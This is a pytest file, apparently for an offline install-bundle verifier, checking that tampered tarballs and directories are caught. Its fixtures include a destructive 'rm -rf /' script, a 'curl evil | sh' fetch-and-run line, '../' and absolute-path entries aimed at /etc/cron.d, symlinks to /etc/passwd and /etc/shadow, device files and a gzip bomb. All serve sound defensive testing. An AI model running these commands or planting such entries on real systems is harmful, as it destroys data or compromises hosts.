"""verify: a correct bundle passes; every kind of damage or hostile entry fails, naming each bad file."""

from __future__ import annotations

import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from bundler.bundle.report import Report, VerifyError
from bundler.bundle.verify import verify

from .bundles import TOP, add_file, add_link, add_special, content, write_bundle


def problems(report: Report) -> dict[str, str]:
    return {p.path: p.problem for p in report.problems}


def unpack(tarball: Path, into: Path) -> Path:
    """Real tar, as the operator does it."""
    into.mkdir(exist_ok=True)
    subprocess.run(["tar", "-xf", str(tarball), "-C", str(into)], check=True)
    return into / TOP


@pytest.mark.parametrize("fmt", ["gz", "xz", ""])
def test_correct_tarball_verifies_in_every_compression(tmp_path: Path, fmt: str) -> None:
    r = verify(write_bundle(tmp_path, fmt=fmt))
    assert r.ok, r.format()
    assert r.exit_code == 0 and r.top == TOP
    assert r.files_checked == len(content())
    assert "OK" in r.format()


def test_tar_xzf_then_verify_the_directory_and_its_parent(tmp_path: Path) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "unpacked")
    r = verify(top)
    assert r.ok, r.format()
    assert r.files_checked == len(content())
    assert verify(tmp_path / "unpacked").ok  # the directory the operator unpacked into


@pytest.mark.parametrize("victim", ["repo/Packages/kubeadm-1.30.4-150500.1.1.x86_64.rpm", "bundle.json",
                                    "install.py", "files/registry", "images/index.json"])
def test_one_flipped_byte_in_an_unpacked_file_is_named(tmp_path: Path, victim: str) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "u")
    f = top / victim
    data = bytearray(f.read_bytes())
    data[len(data) // 2] ^= 0x01
    f.write_bytes(bytes(data))
    r = verify(top)
    assert not r.ok and r.exit_code == 1
    assert list(problems(r)) == [victim]
    assert "content differs from SHA256SUMS" in problems(r)[victim]
    assert victim in r.format()


def test_every_problem_is_reported_not_just_the_first(tmp_path: Path) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "u")
    (top / "install.py").write_text("#!/bin/sh\nrm -rf /\n")
    (top / "files/registry").unlink()
    (top / "files/extra.sh").write_text("curl evil | sh\n")
    r = verify(top)
    p = problems(r)
    assert set(p) == {"install.py", "files/registry", "files/extra.sh"}
    assert "differs" in p["install.py"]
    assert "missing" in p["files/registry"]
    assert "not listed in SHA256SUMS" in p["files/extra.sh"]
    assert len(r.format().splitlines()) == 4


def test_unlisted_file_is_named_in_directory_and_in_tarball(tmp_path: Path) -> None:
    files = content()
    files["repo/Packages/trojan-1.0-1.x86_64.rpm"] = b"not vouched for"
    tarball = write_bundle(tmp_path, files, unlisted=["repo/Packages/trojan-1.0-1.x86_64.rpm"])
    for target in (tarball, unpack(tarball, tmp_path / "u")):
        p = problems(verify(target))
        assert list(p) == ["repo/Packages/trojan-1.0-1.x86_64.rpm"], target
        assert "not listed in SHA256SUMS" in p["repo/Packages/trojan-1.0-1.x86_64.rpm"]


def test_dotdot_entry_is_refused_and_named(tmp_path: Path) -> None:
    r = verify(write_bundle(tmp_path, extra=lambda t: add_file(t, f"{TOP}/../../etc/cron.d/evil", b"* * * * * x")))
    assert problems(r) == {f"{TOP}/../../etc/cron.d/evil":
                           "'..' in the path: extracting it would write outside the bundle"}


def test_absolute_path_is_refused_and_named(tmp_path: Path) -> None:
    r = verify(write_bundle(tmp_path, extra=lambda t: add_file(t, "/etc/cron.d/evil", b"* * * * * x")))
    assert list(problems(r)) == ["/etc/cron.d/evil"]
    assert "absolute path" in problems(r)["/etc/cron.d/evil"]


def test_symlink_leaving_the_tree_is_refused_in_tarball(tmp_path: Path) -> None:
    def hostile(t: tarfile.TarFile) -> None:
        add_link(t, f"{TOP}/files/passwd", "../../../etc/passwd")
        add_link(t, f"{TOP}/files/abs", "/etc/shadow")
        # Looks inside lexically (files/sub/../.. = top), but files/sub is itself a link one level up, so the
        # real target is the directory above the bundle.
        add_link(t, f"{TOP}/files/sub", "..")
        add_link(t, f"{TOP}/files/sneaky", "sub/../../outside")
    p = problems(verify(write_bundle(tmp_path, extra=hostile)))
    assert set(p) == {"files/passwd", "files/abs", "files/sub", "files/sneaky"}
    assert all("leaves the bundle directory" in v for k, v in p.items() if k != "files/sub")
    assert "not a file in the bundle" in p["files/sub"]  # a link to the top dir itself: inside, but unlisted


def test_symlink_leaving_the_tree_is_refused_in_directory(tmp_path: Path) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "u")
    os.symlink("/etc/passwd", top / "files/passwd")
    os.symlink("../../..", top / "files/up")
    p = problems(verify(top))
    assert set(p) == {"files/passwd", "files/up"}
    assert all("leaves the bundle directory" in v for v in p.values())


def test_links_inside_the_tree_listed_in_sums_are_fine(tmp_path: Path) -> None:
    registry = content()["files/registry"]

    def links(t: tarfile.TarFile) -> None:
        add_link(t, f"{TOP}/files/registry-link", "registry")
        add_link(t, f"{TOP}/files/registry-hard", f"{TOP}/files/registry", hard=True)
    good = write_bundle(tmp_path, extra=links,
                        also_listed={"files/registry-link": registry, "files/registry-hard": registry})
    assert verify(good).ok, verify(good).format()
    assert verify(unpack(good, tmp_path / "u")).ok


def test_hardlink_leaving_the_tree_is_refused(tmp_path: Path) -> None:
    r = verify(write_bundle(tmp_path, extra=lambda t: add_link(t, f"{TOP}/files/h", "etc/passwd", hard=True)))
    assert list(problems(r)) == ["files/h"]
    assert "hard link" in problems(r)["files/h"]


def test_device_files_and_fifos_are_refused(tmp_path: Path) -> None:
    def devs(t: tarfile.TarFile) -> None:
        add_special(t, f"{TOP}/dev/sda", tarfile.BLKTYPE)
        add_special(t, f"{TOP}/dev/mem", tarfile.CHRTYPE)
        add_special(t, f"{TOP}/dev/pipe", tarfile.FIFOTYPE)
    p = problems(verify(write_bundle(tmp_path, extra=devs)))
    assert set(p) == {"dev/sda", "dev/mem", "dev/pipe"}
    assert "device file" in p["dev/sda"] and "device file" in p["dev/mem"] and "pipe" in p["dev/pipe"]


def test_more_than_one_top_level_entry_is_refused(tmp_path: Path) -> None:
    def second(t: tarfile.TarFile) -> None:
        add_file(t, "other-dir/payload", b"x")
        add_file(t, "README", b"x")
    p = problems(verify(write_bundle(tmp_path, extra=second)))
    assert set(p) == {"other-dir", "README"}
    assert all("second top-level entry" in v for v in p.values())


def test_duplicate_tar_entry_is_refused(tmp_path: Path) -> None:
    # The second copy carries the right content, so only the duplication itself is wrong.
    good = content()["install.py"]
    r = verify(write_bundle(tmp_path, extra=lambda t: add_file(t, f"{TOP}/install.py", good)))
    assert list(problems(r)) == ["install.py"]
    assert "more than once" in problems(r)["install.py"]


def test_missing_sha256sums_and_malformed_sha256sums(tmp_path: Path) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "u")
    text = (top / "SHA256SUMS").read_text()
    (top / "SHA256SUMS").write_text(text + "not a checksum line\n")
    p = problems(verify(top))
    assert list(p) == ["SHA256SUMS"] and "line" in p["SHA256SUMS"]
    (top / "SHA256SUMS").unlink()
    assert "SHA256SUMS" in problems(verify(top))


def test_sums_listing_paths_outside_the_bundle_are_named(tmp_path: Path) -> None:
    top = unpack(write_bundle(tmp_path), tmp_path / "u")
    with open(top / "SHA256SUMS", "a") as f:
        f.write(f"{'0' * 64}  ../../etc/passwd\n{'0' * 64}  /etc/shadow\n")
    p = problems(verify(top))
    assert set(p) == {"../../etc/passwd", "/etc/shadow"}


def test_truncated_tarball_is_named_and_so_are_the_missing_files(tmp_path: Path) -> None:
    tarball = write_bundle(tmp_path)
    data = tarball.read_bytes()
    tarball.write_bytes(data[: len(data) // 2])
    r = verify(tarball)
    assert not r.ok
    assert any(p.path == tarball.name and "copy it again" in p.problem for p in r.problems)


def test_tarball_damaged_at_the_start_is_one_problem(tmp_path: Path) -> None:
    tarball = write_bundle(tmp_path)
    data = bytearray(tarball.read_bytes())
    data[20:60] = b"\x00" * 40
    tarball.write_bytes(bytes(data))
    r = verify(tarball)
    assert [p.path for p in r.problems] == [tarball.name]


def test_gzip_bomb_does_not_inflate_in_memory(tmp_path: Path) -> None:
    """A 256 MiB member of zeros is ~250 KiB compressed; verifying it must stay in constant memory."""
    import gzip
    import tracemalloc
    bomb = tmp_path / "bomb.tar.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as g, tarfile.open(fileobj=g, mode="w|") as t:
        info = tarfile.TarInfo(f"{TOP}/zeros")
        info.size = 256 << 20

        class Zeros:
            def read(self, n: int) -> bytes:
                return bytes(n)
        t.addfile(info, Zeros())  # type: ignore[arg-type]
    tracemalloc.start()
    try:
        r = verify(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [p.path for p in r.problems] == ["SHA256SUMS"]
    assert r.bytes_hashed == 256 << 20  # read to the end
    assert peak < 16 << 20


def test_not_a_bundle_at_all_is_an_operator_error(tmp_path: Path) -> None:
    junk = tmp_path / "bundle.tar.gz"
    junk.write_bytes(b"this is not a tarball" * 100)
    with pytest.raises(VerifyError, match="neither a directory nor a tar archive"):
        verify(junk)
    with pytest.raises(VerifyError, match="does not exist"):
        verify(tmp_path / "nope.tar.gz")


def test_verify_never_writes_anything(tmp_path: Path) -> None:
    tarball = write_bundle(tmp_path, extra=lambda t: add_file(t, "../escaped", b"x"))
    before = sorted(p.name for p in tmp_path.parent.iterdir())
    assert not verify(tarball).ok
    assert sorted(p.name for p in tmp_path.parent.iterdir()) == before
    assert [p.name for p in tmp_path.iterdir()] == [tarball.name]


def test_progress_reports_the_whole_tarball(tmp_path: Path) -> None:
    tarball = write_bundle(tmp_path)
    seen: list[int] = []
    assert verify(tarball, progress=seen.append).ok
    assert sum(seen) == tarball.stat().st_size


def test_unreadable_copy_via_cp_is_still_ok(tmp_path: Path) -> None:
    # A copy through another filesystem path (what a USB transfer amounts to) verifies the same.
    tarball = write_bundle(tmp_path)
    (tmp_path / "usb").mkdir()
    copy = Path(shutil.copy(tarball, tmp_path / "usb"))
    assert verify(copy).ok
